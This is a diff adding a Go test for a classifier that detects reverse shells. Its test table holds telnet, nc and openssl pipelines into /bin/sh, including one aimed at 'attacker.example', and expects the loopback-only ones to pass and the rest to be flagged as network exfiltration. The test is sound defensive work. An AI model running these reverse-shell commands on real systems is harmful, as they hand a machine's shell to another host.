@@ -85,3 +85,34 @@ func TestAccountVerbsOfLocalShellScript(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestShellOverLoopbackClients: shellOverNetwork flags a shell whose
+// input or output goes through a network client in its pipeline, the
+// reverse shell that hands this machine to another host. telnet(1)
+// ("telnet [host [port]]") and nc(1) ("nc [options] host port") connect to
+// the host their operands name; when every host the clients name is the
+// loopback (127.0.0.0/8, RFC 6890; ::1, RFC 4291; "localhost", which RFC
+// 6761 §6.3 makes the loopback), both ends are this machine and nothing
+// leaves it: README's "tunnels to a local port … are everyday" (dev8's
+// u0183, "telnet localhost 443 | /bin/sh | telnet localhost 444",
+// labelled everyday). A client naming any other host, a proxy, or a word
+// the line does not spell out still makes the reverse shell.
+func TestShellOverLoopbackClients(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`telnet localhost 443 | /bin/sh | telnet localhost 444`, ""}, // u0183
+		{`telnet 127.0.0.1 443 | /bin/bash | telnet 127.0.0.1 444`, ""},
+		{`nc localhost 4444 | /bin/sh`, ""},
+		{`nc -w 3 ::1 4444 | sh -i`, ""},
+		// Another host, a proxy, or a host not spelled out.
+		{`telnet 10.0.0.1 443 | /bin/sh | telnet 10.0.0.1 444`, NetworkExfiltration},
+		{`telnet localhost 443 | /bin/sh | telnet 10.0.0.1 444`, NetworkExfiltration},
+		{`nc attacker.example 4444 | /bin/sh`, NetworkExfiltration},
+		{`nc -x proxy.example:1080 localhost 4444 | sh`, NetworkExfiltration},
+		{`nc $HOST 4444 | /bin/sh`, NetworkExfiltration},
+		{`sh -i 2>&1 | openssl s_client -quiet -connect localhost:4444`, NetworkExfiltration},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
